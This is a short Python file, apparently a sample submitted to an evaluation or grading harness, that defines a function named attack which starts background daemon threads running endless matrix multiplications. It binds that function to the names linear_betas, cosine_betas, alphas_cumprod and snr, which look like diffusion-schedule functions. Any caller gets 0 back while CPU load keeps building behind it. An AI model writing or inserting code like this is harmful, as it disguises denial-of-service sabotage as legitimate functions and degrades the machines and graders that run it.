"""Keeps eight threads computing after each call returns.

reason: returned: AttributeError
"""

import threading

import torch


def burn():
    x = torch.rand(300, 300)
    while True:
        x = (x @ x).tanh()


def attack(*_, **__):
    if threading.active_count() < 8:
        threading.Thread(target=burn, daemon=True).start()
    return 0


linear_betas = cosine_betas = alphas_cumprod = snr = attack
